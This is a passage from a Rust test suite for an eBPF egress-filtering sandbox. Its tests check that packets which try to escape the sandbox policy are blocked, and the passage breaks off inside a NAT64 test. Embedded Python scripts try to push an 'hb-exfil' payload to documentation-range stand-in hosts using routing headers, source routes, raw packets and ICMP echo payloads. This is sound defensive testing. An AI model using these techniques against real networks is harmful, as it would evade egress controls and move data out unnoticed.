//! The kernel judges what goes on the wire, not only what a socket asked for (issue 16).
//!
//! Each test performs an attack from inside a sandbox as uid 65534 (an unprivileged user
//! running arbitrary code), in a network namespace of its own with every address on its
//! `lo`, and records what reached the far side: listeners, and a capture on `lo`
//! ([`Capture`]), which sees every packet `cgroup_skb/egress` let through whatever the
//! protocol. "Public" test addresses are exceptions to the deny ranges; the policy allows
//! some of them and not others. What needs CAP_NET_RAW (raw sockets, hop-by-hop options,
//! IPv4 source routes) runs as root with every capability in a pod-shaped cgroup the
//! agent enrolled by a `[[sandbox]]` glob, as a Kubernetes pod may; from `sandbox run
//! --user 0`, which has no capabilities, the same attack cannot even start.

use std::{
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{IpAddr, TcpListener},
    process::{Command, Output, Stdio},
    thread,
    time::Duration,
};

use hb_tests::{
    Pod, TcpProbe, TestEnv, UdpProbe, agent_bin, capture::Capture, pod_glob, private_netns, python,
};
use serde_json::Value;

/// Allowed by the policy (static CIDR or validated).
const ALLOWED4: &str = "203.0.113.10";
const ALLOWED6: &str = "2001:db8::10";
/// Public (an exception to the deny ranges) but neither in a static CIDR nor validated.
const OTHER4: &str = "198.51.100.7";
const OTHER6: &str = "2001:db8::66";

const EXCEPTIONS: &str =
    r#"exception_cidrs = ["203.0.113.0/24", "198.51.100.0/24", "2001:db8::/32"]"#;

fn ip(s: &str) -> IpAddr {
    s.parse().expect("test address")
}

/// Sets a sysctl; the test's thread is in its own network namespace, so a `net.` key
/// changes that namespace only.
fn sysctl(kv: &str) {
    let out = Command::new("sysctl")
        .args(["-qw", kv])
        .output()
        .expect("sysctl");
    assert!(
        out.status.success(),
        "sysctl -w {kv}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Runs a Python script in a fresh sandbox of `policy` as `user` (uid 65534 for the
/// attacks, "0" for root without capabilities) and returns its stdout lines.
fn sandboxed(env: &TestEnv, policy: &str, user: &str, script: &str, args: &[&str]) -> String {
    let mut cmd = vec!["sandbox", "run", "--policy", policy, "--user", user];
    cmd.extend(["--", python(), "-c", script]);
    cmd.extend_from_slice(args);
    printed(&env.hb(&cmd))
}

/// Runs a Python script as root with every capability (CAP_NET_RAW included, as a
/// Kubernetes pod may have it) in a pod-shaped cgroup the agent enrolled by a
/// `[[sandbox]]` glob ([`TestEnv::root_pod`]), and returns its stdout lines: what needs
/// CAP_NET_RAW is tried there, where only the kernel programs stand in the way.
fn in_pod(pod: &Pod, script: &str, args: &[&str]) -> String {
    let mut cmd = vec![python(), "-c", script];
    cmd.extend_from_slice(args);
    printed(&pod.run(&cmd))
}

fn printed(out: &Output) -> String {
    let stdout = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    assert!(
        !stdout.is_empty(),
        "the script printed nothing: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    stdout
}

/// Whether an event is a kernel packet drop with `reason` for `dst`.
fn skb_drop(e: &Value, reason: &str, dst: &str) -> bool {
    e["hook"] == "skb_egress" && e["verdict"] == "deny" && e["reason"] == reason && e["dst"] == dst
}

/// Writes a validated-address entry (what the resolver writes) with bpftool, straight
/// into the pinned allow map: key policy id (little endian) + address, value expiry in
/// monotonic ns.
fn bpftool_allow(env: &TestEnv, policy_id: u32, addr: IpAddr, expires_ns: u64) {
    let (map, octets) = match addr {
        IpAddr::V4(a) => ("HB_ALLOW4", a.octets().to_vec()),
        IpAddr::V6(a) => ("HB_ALLOW6", a.octets().to_vec()),
    };
    let key: Vec<String> = policy_id
        .to_le_bytes()
        .iter()
        .chain(&octets)
        .map(|b| b.to_string())
        .collect();
    let value: Vec<String> = expires_ns
        .to_le_bytes()
        .iter()
        .map(|b| b.to_string())
        .collect();
    bpftool_update(env, map, &key, &value);
}

fn bpftool_update(env: &TestEnv, map: &str, key: &[String], value: &[String]) {
    let out = Command::new("bpftool")
        .args(["map", "update", "pinned"])
        .arg(env.map_pin(map))
        .arg("key")
        .args(key)
        .arg("value")
        .args(value)
        .output()
        .expect("bpftool");
    assert!(
        out.status.success(),
        "bpftool map update {map}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Makes the kernel forget every cached flow (the agent does this on every policy
/// change), so what passes afterwards passes on its own merits.
fn bump_generation(env: &TestEnv, value: u64) {
    let zero: Vec<String> = 0u32.to_le_bytes().iter().map(|b| b.to_string()).collect();
    let v: Vec<String> = value.to_le_bytes().iter().map(|b| b.to_string()).collect();
    bpftool_update(env, "HB_GENERATION", &zero, &v);
}

/// Settles in-flight packets before a capture or a listener is read.
fn settle() {
    thread::sleep(Duration::from_millis(200));
}

/// Tries to get a datagram or a connection to `dst` (allowed) while a routing header or
/// source route sends it to `seg`; prints `SENT`, `TIMEOUT` or the errno name, or
/// `socket` and the errno name when a raw socket cannot even be opened.
const PY_SOURCE_ROUTE: &str = r#"
import errno, socket, struct, sys
mode, seg, dst, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
def raw(family):
    try:
        return socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except OSError as e:
        print("socket", errno.errorcode.get(e.errno, str(e.errno))); sys.exit(0)
if ":" in seg:
    # Segment routing header (RFC 8754, type 4): segments left 0, one segment.
    srh = struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, seg)
else:
    # Loose source route (IPv4 option 0x83): first hop seg, then dst; NOP pads to 8 bytes.
    lsrr = bytes([0x83, 7, 4]) + socket.inet_aton(seg) + b"\x01"
try:
    if mode == "udp6-sticky":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
        s.sendto(b"hb-exfil", (dst, port))
    elif mode == "udp6-hbh-rthdr":
        # A hop-by-hop header (PadN) first: the routing header hides one header deep.
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
        s.sendto(b"hb-exfil", (dst, port))
    elif mode == "udp6-hbh":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
        s.sendto(b"hb-exfil", (dst, port))
    elif mode == "udp6-connected":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.connect((dst, port))
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
        s.send(b"hb-exfil")
    elif mode == "udp4-connected-cmsg":
        # A source route as a control message on a connected socket's datagram that
        # names no address: the sendmsg hook sees the kernel's zeroed address (the
        # connected peer, which it passes), and the route sends the packet to seg first.
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((dst, port))
        s.sendmsg([b"hb-exfil"], [(socket.IPPROTO_IP, 7, lsrr)])  # IP_RETOPTS
    elif mode == "udp6-cmsg":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.sendmsg([b"hb-exfil"], [(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)], 0, (dst, port))
    elif mode == "tcp6":
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, srh)
        s.settimeout(2)
        s.connect((dst, port))
        s.sendall(b"hb-exfil")
    elif mode == "udp4-lsrr":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr)
        s.sendto(b"hb-exfil", (dst, port))
    elif mode == "udp4-rr":
        # Record route (option 7): changes nothing about where the packet goes.
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([7, 7, 4, 0, 0, 0, 0, 1]))
        s.sendto(b"hb-exfil", (dst, port))
    elif mode == "tcp4-lsrr":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, lsrr)
        s.settimeout(2)
        s.connect((dst, port))
        s.sendall(b"hb-exfil")
    elif mode == "raw6-rthdr":
        # The packet a routing header option would build, written whole through a raw
        # socket (IPPROTO_RAW implies IPV6_HDRINCL), so no socket option is involved:
        # first hop seg and the routing header the socket option would add, UDP inside.
        udp = struct.pack("!HHHH", 40000, port, 16, 0) + b"hb-exfil"
        rh = bytes([17]) + srh[1:]
        ip6 = struct.pack("!IHBB", 6 << 28, len(rh) + len(udp), 43, 64)
        ip6 += socket.inet_pton(socket.AF_INET6, dst) + socket.inet_pton(socket.AF_INET6, seg)
        s = raw(socket.AF_INET6)
        s.sendto(ip6 + rh + udp, (seg, 0))
    elif mode in ("raw4-lsrr", "raw4-rr"):
        # An IPv4 header with the option written whole (IP_HDRINCL): first hop seg and a
        # loose source route to dst, or record route to dst itself.
        opt = lsrr if mode == "raw4-lsrr" else bytes([7, 7, 4, 0, 0, 0, 0, 1])
        first = seg if mode == "raw4-lsrr" else dst
        udp = struct.pack("!HHHH", 40000, port, 16, 0) + b"hb-exfil"
        ip4 = struct.pack("!BBHHHBBH", 0x45 + len(opt) // 4, 0, 20 + len(opt) + len(udp), 0, 0,
                          64, 17, 0)
        ip4 += socket.inet_aton(dst) + socket.inet_aton(first) + opt
        s = raw(socket.AF_INET)
        s.sendto(ip4 + udp, (first, 0))
    print("SENT")
except TimeoutError:
    print("TIMEOUT")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

#[test]
fn routing_headers_and_source_routes_never_leave_a_sandbox() {
    private_netns(&[ALLOWED4, OTHER4, ALLOWED6, OTHER6]);
    // The receiving side accepts segment-routed and source-routed packets, so on a binary
    // that lets them out the listeners at the segment really get them.
    sysctl("net.ipv6.conf.all.seg6_enabled=1");
    sysctl("net.ipv6.conf.lo.seg6_enabled=1");
    sysctl("net.ipv4.conf.all.accept_source_route=1");
    sysctl("net.ipv4.conf.lo.accept_source_route=1");
    let mut env = TestEnv::new(
        "srcroute",
        &format!(
            "[egress]\n{EXCEPTIONS}\n\n[[policy]]\nname = \"narrow\"\nallow_cidrs = [\"{ALLOWED4}\", \"{ALLOWED6}/128\"]\n\
             raw_sockets = true\n{}",
            pod_glob("narrow")
        ),
    );
    env.start_agent();
    let pod = env.root_pod("narrow");
    let capture = Capture::lo();
    // The segment's listeners, and the allowed address's on the same ports.
    let seg6_udp = UdpProbe::bind(&format!("[{OTHER6}]:0"));
    let port6 = seg6_udp.addr.port();
    let allowed6_udp = UdpProbe::bind(&format!("[{ALLOWED6}]:{port6}"));
    let seg6_tcp = TcpProbe::bind(&format!("[{OTHER6}]:0"));
    let tport6 = seg6_tcp.addr.port();
    let _allowed6_tcp = TcpProbe::bind(&format!("[{ALLOWED6}]:{tport6}"));
    let seg4_udp = UdpProbe::bind(&format!("{OTHER4}:0"));
    let port4 = seg4_udp.addr.port();
    let allowed4_udp = UdpProbe::bind(&format!("{ALLOWED4}:{port4}"));
    let seg4_tcp = TcpProbe::bind(&format!("{OTHER4}:0"));
    let tport4 = seg4_tcp.addr.port();
    let _allowed4_tcp = TcpProbe::bind(&format!("{ALLOWED4}:{tport4}"));

    // Two lines of defence: the options that set a routing header or IP options are
    // refused at setsockopt (EPERM, a `setsockopt` event), and a packet that carries one
    // anyway (written whole through a raw socket, which needs CAP_NET_RAW) is dropped by
    // cgroup_skb/egress (a `skb_egress` event). What needs CAP_NET_RAW ("root" below)
    // runs as root in a glob-enrolled pod, which may hold it; from `sandbox run --user 0`
    // (no capabilities) the same attack cannot even start.
    for (mode, user, seg, dst, port, refused_by) in [
        (
            "udp6-sticky",
            "65534",
            OTHER6,
            ALLOWED6,
            port6,
            "setsockopt",
        ),
        (
            "udp6-connected",
            "65534",
            OTHER6,
            ALLOWED6,
            port6,
            "setsockopt",
        ),
        // This kernel refuses a type 4 header as a cmsg (EINVAL: only type 2, with
        // CONFIG_IPV6_MIP6); what matters is that nothing reaches the segment, whichever
        // layer stops it.
        ("udp6-cmsg", "65534", OTHER6, ALLOWED6, port6, "kernel"),
        ("tcp6", "65534", OTHER6, ALLOWED6, tport6, "setsockopt"),
        // Hop-by-hop options need CAP_NET_RAW: root in a pod has it.
        (
            "udp6-hbh-rthdr",
            "root",
            ALLOWED6,
            ALLOWED6,
            port6,
            "setsockopt",
        ),
        // IPv4 source routes need CAP_NET_RAW on this kernel (IP_OPTIONS with LSRR is
        // EPERM for uid 65534): root in a pod has it.
        ("udp4-lsrr", "root", OTHER4, ALLOWED4, port4, "setsockopt"),
        // As a control message no sockopt hook sees it, and the sendmsg hook passes a
        // connected socket's datagram that names no address: the packet hook drops it.
        (
            "udp4-connected-cmsg",
            "65534",
            OTHER4,
            ALLOWED4,
            port4,
            "skb",
        ),
        ("tcp4-lsrr", "root", OTHER4, ALLOWED4, tport4, "setsockopt"),
        ("raw6-rthdr", "root", OTHER6, ALLOWED6, port6, "skb"),
        ("raw4-lsrr", "root", OTHER4, ALLOWED4, port4, "skb"),
    ] {
        let args = [mode, seg, dst, &port.to_string()];
        let got = if user == "root" {
            in_pod(&pod, PY_SOURCE_ROUTE, &args)
        } else {
            sandboxed(&env, "narrow", user, PY_SOURCE_ROUTE, &args)
        };
        settle();
        let arrived = capture.to(ip(seg));
        assert!(
            arrived.is_empty(),
            "{mode}: {user} addressed {dst} and {} packet(s) went to the segment {seg} \
             (it saw {got:?}): {:?}",
            arrived.len(),
            arrived.first()
        );
        match refused_by {
            "setsockopt" => assert_eq!(got, "EPERM", "{mode}: the option must be refused"),
            "skb" => assert!(
                got == "EPERM" || got == "SENT",
                "{mode}: the raw send itself: {got:?}"
            ),
            _ => assert_ne!(got, "SENT", "{mode}: the send must fail"),
        }
        if user == "root" {
            // Root in a sandbox: the option is refused, the raw socket never opens.
            let got = sandboxed(&env, "narrow", "0", PY_SOURCE_ROUTE, &args);
            settle();
            assert!(
                capture.to(ip(seg)).is_empty(),
                "{mode}: sandbox run --user 0 reached the segment {seg} ({got:?})"
            );
            let expected = if refused_by == "skb" {
                "socket EPERM"
            } else {
                "EPERM"
            };
            assert_eq!(got, expected, "{mode} from sandbox run --user 0");
        }
    }
    assert_eq!(
        seg6_udp.received(),
        0,
        "the IPv6 segment's listener got data"
    );
    assert_eq!(
        seg4_udp.received(),
        0,
        "the IPv4 segment's listener got data"
    );
    assert_eq!(seg6_tcp.accepted() + seg4_tcp.accepted(), 0);
    assert_eq!(
        allowed6_udp.received() + allowed4_udp.received(),
        0,
        "nothing source-routed arrives anywhere"
    );
    env.wait_event("source_route drop, IPv6", |e| {
        skb_drop(e, "source_route", OTHER6) && e["family"] == "ipv6"
    });
    env.wait_event("source_route drop, IPv4", |e| {
        skb_drop(e, "source_route", OTHER4) && e["family"] == "ipv4"
    });
    env.wait_event("source_route option refused", |e| {
        e["hook"] == "setsockopt" && e["reason"] == "source_route"
    });

    // The same sockets without the routing header reach the allowed address: only the
    // header was refused (and a hop-by-hop header is walked over, not refused).
    let got = sandboxed(
        &env,
        "narrow",
        "65534",
        PY_PROBE_PLAIN,
        &["udp", ALLOWED6, &port6.to_string()],
    );
    assert_eq!(got, "OK");
    let hbh = ["udp6-hbh", OTHER6, ALLOWED6, &port6.to_string()];
    let got = in_pod(&pod, PY_SOURCE_ROUTE, &hbh);
    assert_eq!(got, "SENT", "hop-by-hop options alone");
    // Without CAP_NET_RAW (root in a sandbox) the option itself is the kernel's EPERM.
    let got = sandboxed(&env, "narrow", "0", PY_SOURCE_ROUTE, &hbh);
    assert_eq!(got, "EPERM", "hop-by-hop options from sandbox run --user 0");
    settle();
    assert_eq!(
        allowed6_udp.received(),
        2,
        "plain and hop-by-hop datagrams to the allowed address"
    );
    // IPv4 options other than source routes pass the packet check (the socket option
    // refuses every IP option, so the packet is written whole).
    let rr = ["raw4-rr", OTHER4, ALLOWED4, &port4.to_string()];
    let got = in_pod(&pod, PY_SOURCE_ROUTE, &rr);
    assert_eq!(got, "SENT", "record-route option");
    let got = sandboxed(&env, "narrow", "0", PY_SOURCE_ROUTE, &rr);
    assert_eq!(
        got, "socket EPERM",
        "a raw socket from sandbox run --user 0"
    );
    settle();
    assert_eq!(allowed4_udp.received(), 1, "record-route datagram");
}

/// A plain datagram or connection (no extension header), for the positive controls.
const PY_PROBE_PLAIN: &str = r#"
import errno, socket, sys
op, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
try:
    if op == "tcp":
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3); s.connect((host, port))
    else:
        s = socket.socket(fam, socket.SOCK_DGRAM); s.sendto(b"hb", (host, port))
    print("OK")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

/// One ICMP echo with a payload from a ping socket (`SOCK_DGRAM`, `IPPROTO_ICMP[V6]`: no
/// privilege needed, only `net.ipv4.ping_group_range`); prints `REPLY`, `TIMEOUT` or the
/// errno name.
const PY_PING_SOCKET: &str = r#"
import errno, socket, struct, sys
host = sys.argv[1]
v6 = ":" in host
s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM,
                  socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP)
s.settimeout(1)
echo = struct.pack("!BBHHH", 128 if v6 else 8, 0, 0, 0, 1) + b"hb-exfil-payload"
try:
    s.sendto(echo, (host, 0))
    data = s.recv(2048)
    print("REPLY" if data[0] in (0, 129) else "OTHER %d" % data[0])
except TimeoutError:
    print("TIMEOUT")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

/// One ICMP echo over a raw socket (needs CAP_NET_RAW: run as root in a pod); prints
/// `REPLY`, `TIMEOUT` or the errno name, or `socket` and the errno name when the raw
/// socket cannot even be opened.
const PY_PING_RAW: &str = r#"
import errno, socket, struct, sys
def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
hdr = struct.pack("!BBHHH", 8, 0, 0, 0x4862, 1) + b"hb-exfil-payload"
pkt = hdr[:2] + struct.pack("!H", csum(hdr)) + hdr[4:]
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(1)
except OSError as e:
    print("socket", errno.errorcode.get(e.errno, str(e.errno))); sys.exit(0)
try:
    s.sendto(pkt, (sys.argv[1], 0))
    while True:
        data = s.recv(2048)
        if data[20] == 0 and data[24:26] == b"\x48\x62":
            print("REPLY"); break
except TimeoutError:
    print("TIMEOUT")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

#[test]
fn ping_sockets_reach_only_validated_addresses() {
    private_netns(&[ALLOWED4, OTHER4, ALLOWED6, OTHER6]);
    // What most distributions set (systemd: "0 2147483647"), here in this namespace only;
    // it governs ICMPv6 ping sockets too.
    sysctl("net.ipv4.ping_group_range=0 2147483647");
    // The policy opts in to ping and raw sockets, which `cgroup/sock_create` refuses
    // otherwise (attack review 27): what is tested is the packet hook's verdict.
    let mut env = TestEnv::new(
        "pingsock",
        &format!(
            "[egress]\n{EXCEPTIONS}\n\n[[policy]]\nname = \"dns\"\nicmp_echo = true\n\
             raw_sockets = true\n{}",
            pod_glob("dns")
        ),
    );
    env.start_agent();
    let id = env.policy_id("dns");
    // Validated, as the resolver would after an A/AAAA answer.
    bpftool_allow(&env, id, ip(ALLOWED4), u64::MAX);
    bpftool_allow(&env, id, ip(ALLOWED6), u64::MAX);
    let capture = Capture::lo();

    for (other, protocol) in [(OTHER4, "icmp"), (OTHER6, "icmpv6")] {
        let got = sandboxed(&env, "dns", "65534", PY_PING_SOCKET, &[other]);
        settle();
        let arrived = capture.to(ip(other));
        assert!(
            arrived.is_empty(),
            "ping socket: {} echo packet(s) reached the unvalidated {other} (sandbox saw \
             {got:?}); payload smuggled: {}",
            arrived.len(),
            arrived.iter().any(|p| p.carries(b"hb-exfil-payload"))
        );
        assert!(
            got == "EPERM" || got == "TIMEOUT",
            "ping socket to {other}: {got:?}"
        );
        env.wait_event(&format!("not_allowed drop of the echo to {other}"), |e| {
            skb_drop(e, "not_allowed", other) && e["protocol"] == protocol
        });
    }
    // A raw socket (root with CAP_NET_RAW in a glob-enrolled pod) meets the same
    // verdict.
    let pod = env.root_pod("dns");
    let got = in_pod(&pod, PY_PING_RAW, &[OTHER4]);
    settle();
    assert!(
        capture.to(ip(OTHER4)).is_empty(),
        "raw ICMP reached {OTHER4} ({got:?})"
    );
    assert!(
        got == "EPERM" || got == "TIMEOUT",
        "raw ICMP from the pod to {OTHER4}: {got:?}"
    );
    // Root in a sandbox cannot open the raw socket at all.
    let got = sandboxed(&env, "dns", "0", PY_PING_RAW, &[OTHER4]);
    assert_eq!(got, "socket EPERM", "raw ICMP from sandbox run --user 0");

    // Validated addresses answer.
    for allowed in [ALLOWED4, ALLOWED6] {
        assert_eq!(
            sandboxed(&env, "dns", "65534", PY_PING_SOCKET, &[allowed]),
            "REPLY",
            "ping socket to the validated {allowed}"
        );
    }
}

/// A TCP server that echoes every line back, for a connection held across an expiry.
fn echo_server(addr: &str) -> u16 {
    let listener = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
    let port = listener.local_addr().expect("addr").port();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            thread::spawn(move || {
                let mut buf = [0u8; 512];
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 || s.write_all(&buf[..n]).is_err() {
                        return;
                    }
                }
            });
        }
    });
    port
}

/// Holds a TCP connection and a connected UDP socket to a validated address, waits for a
/// line on stdin (the test expires the address meanwhile), then uses both again and
/// tries two new flows: a connect and a ping-socket echo.
const PY_HELD: &str = r#"
import errno, socket, struct, sys
ip, tport, uport = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
def err(e): return errno.errorcode.get(e.errno, str(e.errno))
t = socket.create_connection((ip, tport), timeout=3)
# The same host through an IPv6 socket (IPv4-mapped): its packets are IPv4.
m = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); m.settimeout(3); m.connect(("::ffff:" + ip, tport))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect((ip, uport))
t.sendall(b"before\n"); print("tcp before:", t.recv(100).decode().strip(), flush=True)
m.sendall(b"before\n"); m.recv(100)
u.send(b"udp-before")
print("ready", flush=True)
sys.stdin.readline()
try:
    t.sendall(b"after\n"); print("tcp after:", t.recv(100).decode().strip(), flush=True)
except OSError as e:
    print("tcp after:", err(e), flush=True)
try:
    m.sendall(b"mapped\n"); print("mapped after:", m.recv(100).decode().strip(), flush=True)
except OSError as e:
    print("mapped after:", err(e), flush=True)
try:
    u.send(b"udp-after"); print("udp after: sent", flush=True)
except OSError as e:
    print("udp after:", err(e), flush=True)
try:
    socket.create_connection((ip, tport), timeout=3); print("new tcp: OK", flush=True)
except OSError as e:
    print("new tcp:", err(e), flush=True)
p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); p.settimeout(1)
try:
    p.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"hb-exfil-payload", (ip, 0)); p.recv(100)
    print("new ping: REPLY", flush=True)
except TimeoutError:
    print("new ping: TIMEOUT", flush=True)
except OSError as e:
    print("new ping:", err(e), flush=True)
"#;

#[test]
fn established_flows_outlive_their_address_but_new_flows_do_not() {
    private_netns(&[ALLOWED4]);
    sysctl("net.ipv4.ping_group_range=0 2147483647");
    let mut env = TestEnv::new(
        "held",
        &format!("[egress]\n{EXCEPTIONS}\n\n[[policy]]\nname = \"dns\"\nicmp_echo = true\n"),
    );
    env.start_agent();
    let id = env.policy_id("dns");
    bpftool_allow(&env, id, ip(ALLOWED4), u64::MAX);
    let tport = echo_server(&format!("{ALLOWED4}:0"));
    let udp = UdpProbe::bind(&format!("{ALLOWED4}:0"));

    let mut child = Command::new(agent_bin())
        .arg("--config")
        .arg(&env.config_path)
        .args(["sandbox", "run", "--policy", "dns", "--user", "65534", "--"])
        .args([python(), "-c", PY_HELD, ALLOWED4])
        .arg(tport.to_string())
        .arg(udp.addr.port().to_string())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn sandbox");
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let mut seen = Vec::new();
    for line in lines.by_ref() {
        let line = line.expect("line");
        let ready = line == "ready";
        seen.push(line);
        if ready {
            break;
        }
    }
    assert_eq!(
        seen.first().map(String::as_str),
        Some("tcp before: before"),
        "the held connection works before expiry: {seen:?}"
    );
    // The address expires (as its TTL would), and every cached flow is forgotten, so the
    // held flows pass on their sockets' admitted peer alone.
    bpftool_allow(&env, id, ip(ALLOWED4), 1);
    bump_generation(&env, 0x4242_4242);
    let capture = Capture::lo();
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(b"go\n")
        .expect("stdin");
    let rest: Vec<String> = lines.map(|l| l.expect("line")).collect();
    let out = child.wait_with_output().expect("sandbox");
    let text = rest.join("\n");
    settle();

    let icmp_after: Vec<_> = capture
        .to(ip(ALLOWED4))
        .into_iter()
        .filter(|p| p.0.get(9) == Some(&1))
        .collect();
    assert!(
        icmp_after.is_empty(),
        "a new ping flow reached {ALLOWED4} after its validation expired:\n{text}"
    );
    assert!(
        text.contains("new ping: EPERM") || text.contains("new ping: TIMEOUT"),
        "new ping flow after expiry: {text}"
    );
    assert!(
        text.contains("new tcp: EPERM"),
        "a new connect after expiry must be refused: {text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("tcp after: after"),
        "the established TCP connection broke at expiry: {text}"
    );
    assert!(
        text.contains("mapped after: mapped"),
        "the established IPv4-mapped connection broke at expiry: {text}"
    );
    assert!(text.contains("udp after: sent"), "{text}");
    assert_eq!(
        udp.received(),
        2,
        "the connected UDP socket's flow survives"
    );
    env.wait_event("not_allowed echo after expiry", |e| {
        skb_drop(e, "not_allowed", ALLOWED4) && e["protocol"] == "icmp"
    });
    // The admitted peers live in each socket's own storage, which has no keys: the CLI
    // says so rather than print an empty list (under the old name too), and the map
    // list shows it without an entry count.
    for name in ["sock_peer", "sock_dest"] {
        let out = env.hb(&["maps", "dump", name]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && err.contains("socket storage"),
            "maps dump {name}: {err}"
        );
    }
    let maps = env.hb_json(&["maps", "list"]);
    let peer = maps
        .as_array()
        .expect("rows")
        .iter()
        .find(|r| r["name"] == "HB_SOCK_PEER")
        .unwrap_or_else(|| panic!("HB_SOCK_PEER in maps list: {maps}"));
    assert_eq!(peer["type"], "SkStorage", "{peer}");
    assert_eq!(peer["entries"], Value::Null, "{peer}");
}

/// Asks hb's resolver (through the kernel's redirect of a query to a documentation
/// nameserver) for the AAAA of a name; prints the rcode and the answers.
const PY_AAAA: &str = r#"
import socket, struct, sys
name = sys.argv[1]
q = struct.pack("!HHHHHH", 0x4862, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 28, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ("192.0.2.53", 53))
d, _ = s.recvfrom(2048)
answers = struct.unpack("!H", d[6:8])[0]
out = ["rcode %d" % (d[3] & 15)]
if answers:
    out.append(socket.inet_ntop(socket.AF_INET6, d[-16:]))
print(" ".join(out))
"#;

const UPSTREAM_PORT: u16 = 5410;

#[test]
fn nat64_network_specific_prefixes_are_judged_as_the_ipv4_they_carry() {
    // 2001:db8:64::/96 embeds in the last 32 bits; 2001:db8:100::/40 around the u octet.
    const PRIVATE_96: &str = "2001:db8:64::a00:1"; // 10.0.0.1
    const PUBLIC_96: &str = "2001:db8:64::cb00:710a"; // 203.0.113.10
    const PRIVATE_40: &str = "2001:db8:10a:102:3::"; // 10.1.2.3
    private_netns(&[PRIVATE_96, PUBLIC_96, PRIVATE_40]);
    let upstream = Command::new("dnsmasq")
        .args([
            "--no-daemon",
            "--conf-file=/dev/null",
            "--bind-interfaces",
            "--listen-address=127.0.0.1",
            "--no-resolv",
            "--no-hosts",
            "--user=root",
            "--pid-file=",
        ])
        .arg(format!("--port={UPSTREAM_PORT}"))
        .arg(format!("--host-record=private64.test,{PRIVATE_96}"))
        .arg(format!("--host-record=public64.test,{PUBLIC_96}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("dnsmasq (cargo xtask setup installs dnsmasq-base)");
    let _upstream = KillOnDrop(upstream);
    thread::sleep(Duration::from_millis(300));
    let mut env = TestEnv::new(
        "nat64",
        &format!(
            r#"
[dns]
listen = "127.0.0.1:5310"
redirect = true
upstreams = ["127.0.0.1:{UPSTREAM_PORT}"]

[egress]
{EXCEPTIONS}
nat64_prefixes = ["64:ff9b::/96", "2001:db8:64::/96", "2001:db8:100::/40"]

[[policy]]
name = "open"
allow_domains = ["private64.test", "public64.test"]
# Any public address; the deny ranges still win.
allow_cidrs = ["0.0.0.0/0", "::/0"]
"#
        ),
    );
    env.start_agent();

    // At the resolver: an AAAA that carries a private IPv4 is a rebinding answer.
    let got = sandboxed(&env, "open", "65534", PY_AAAA, &["private64.test"]);
    assert_eq!(
        got, "rcode 5",
        "the resolver handed out a NAT64 address of a private IPv4"
    );
